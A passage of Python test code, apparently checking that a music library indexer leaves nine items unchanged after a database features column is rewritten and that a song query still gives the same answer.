        con.execute("UPDATE models SET features = ?", (json.dumps(old),))
    con.close()
    rc, out, err = index(home, lib)
    assert rc == 0 and out.startswith("indexed 0, unchanged 9"), out + err
    _same_answer(query(home, song), clean, lib)
